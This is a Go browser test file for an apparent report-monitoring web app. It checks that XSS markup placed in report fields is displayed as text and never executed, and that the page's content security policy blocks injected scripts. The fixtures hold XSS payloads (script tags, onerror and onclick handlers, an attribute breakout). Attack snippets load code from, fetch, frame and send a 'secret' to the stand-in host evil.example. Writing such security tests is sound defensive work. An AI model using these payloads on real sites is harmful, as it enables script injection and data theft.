package main

import (
	"context"
	"testing"

	"github.com/chromedp/cdproto/cdp"
	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/chromedp"

	wf "github.com/watchfloor/watchfloor/proto/watchfloor/v1"
)

// watchPolicy has the page keep what its content policy refuses, from before its
// first own line.
const watchPolicy = `window.refused = [];
document.addEventListener("securitypolicyviolation", (e) => window.refused.push(e.effectiveDirective + " " + e.blockedURI + " " + e.sample));
window.refusals = () => window.refused.join("\n");`

func (b *tab) watchPolicy() chromedp.Action[chromedp.Void] {
	return chromedp.Func(func(ctx context.Context, t *chromedp.Target) error {
		_, err := cdp.Call(ctx, t, page.AddScriptToEvaluateOnNewDocument, page.AddScriptToEvaluateOnNewDocumentParams{Source: watchPolicy})
		return err
	})
}

// hostile is a report whose every free text is markup that runs a script.
func hostile() (*wf.Report, []string) {
	const script, image = `<script>window.ran="script"</script>`, `<img src=x onerror='window.ran="image"'>`
	r := sighting("jackson-pd", `26-"><b onclick=alert(1)>`, 32.9988, -90.9848)
	r.Narrative = script + image
	r.Title = image
	r.Entities[0].Identifiers = []*wf.Identifier{{Type: wf.IdentifierType_IDENTIFIER_TYPE_PHONE, Value: "+16015559999"}}
	r.Entities[0].Detail = &wf.Entity_Vehicle{Vehicle: &wf.Vehicle{Make: script, Model: image, Color: "grey"}}
	r.Places[0].Name = script
	r.GetSar().Circumstances = []string{script}
	return r, []string{r.Record}
}

// testPolicy: what agencies write is shown as they wrote it and never run; the
// page itself does nothing that its policy refuses; and the policy refuses what
// an attacker would do.
func testPolicy(t *testing.T, b *tab, f *floor) {
	t.Helper()
	b.do("go back to the actual picture", chromedp.Click(chromedp.CSS("[data-status=actual]")))
	b.wait("it is live", `document.querySelector("[data-connection=live]")`)
	r, shown := hostile()
	f.publish(r)
	b.wait("the hostile report is in the list", `document.querySelectorAll("[data-situation]").length === 2`)
	for _, at := range []string{"0", "1"} {
		b.text(`document.querySelectorAll("[data-situation]")[` + at + `].click()`)
		b.wait("it is explained", `document.querySelector(".explanation li") && document.querySelector("[data-situation][aria-selected=true], [data-situation][aria-current=true], [data-situation].selected")`)
	}
	b.wait("the markup is shown as text", `document.body.innerText.includes(`+quoted(shown[0])+`) || (document.querySelectorAll("[data-situation]")[0].click(), false)`)
	b.shot("hostile")
	if got := b.text(`document.querySelectorAll("main script, main img, main [onclick], main [onerror]").length`); got != "0" {
		t.Errorf("%s elements of the report are in the page", got)
	}
	if got := b.text(`window.ran`); got != "undefined" {
		t.Errorf("a script of the report ran: %s", got)
	}
	if got := b.text(`window.refusals()`); got != "" {
		t.Errorf("the page does what its own policy refuses:\n%s", got)
	}
}

func quoted(s string) string { return "`" + s + "`" }

// testPolicyHolds tries in the page what an attacker would who got text into
// it. It leaves complaints behind, so it comes last.
func testPolicyHolds(t *testing.T, b *tab) {
	t.Helper()
	for _, c := range []struct{ what, try, directive string }{
		{"a script of another origin", `(() => { const s = document.createElement("script"); s.src = "https://evil.example/x.js"; document.body.append(s); })()`, "require-trusted-types-for"},
		{"markup from text", `(() => { document.createElement("div").innerHTML = "<img src=x onerror='window.ran=1'>"; })()`, "require-trusted-types-for"},
		{"a handler from text", `(() => { document.body.setAttribute("onclick", "window.ran = 'handler'"); })()`, "require-trusted-types-for"},
		{"a rule of one's own", `(() => { trustedTypes.createPolicy("mine", {createHTML: (s) => s}); })()`, "trusted-types"},
		{"a worker of another script", `(() => { new Worker("/assets/other.js"); })()`, "require-trusted-types-for"},
		{"an inline style", `(() => { const s = document.createElement("style"); s.append("body { display: none }"); document.head.append(s); })()`, "style-src"},
		{"a picture elsewhere, with what it carries", `(() => { new Image().src = "https://evil.example/?secret"; })()`, "img-src"},
		{"a request elsewhere", `(() => { fetch("https://evil.example/").catch(() => 0); })()`, "connect-src"},
		{"a frame", `(() => { const s = document.createElement("iframe"); s.src = "https://evil.example/"; document.body.append(s); })()`, "frame-src"},
		{"another base", `(() => { const s = document.createElement("base"); s.href = "https://evil.example/"; document.head.append(s); })()`, "base-uri"},
	} {
		b.text(`window.refused.length = 0`)
		b.text(`(() => { try { ` + c.try + ` } catch (e) { window.thrown = String(e); } })()`)
		b.wait(c.what+" is refused", `window.refusals().includes("`+c.directive+`")`)
	}
	// An inline script runs while it is put in, or never; browsers refuse it
	// without an event when there is a rule for other text.
	b.text(`(() => { const s = document.createElement("script"); s.append("window.ran = 'inline'"); document.body.append(s); })()`)
	if got := b.text(`window.ran`); got != "undefined" {
		t.Errorf("a script ran: %s", got)
	}
	if got := b.text(`getComputedStyle(document.body).display`); got == "none" {
		t.Error("a style of an attacker is applied")
	}
}
